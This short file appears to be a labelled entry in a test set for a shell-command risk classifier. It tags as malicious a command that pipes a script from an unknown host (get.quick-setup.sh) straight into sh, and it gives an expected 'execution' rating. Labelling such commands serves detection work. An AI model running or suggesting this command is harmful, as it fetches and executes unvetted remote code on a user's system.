# does: pipes a script from an unknown host into a shell
# kind: malicious
# expect: execution medium medium
curl -sf http://get.quick-setup.sh/install | sh
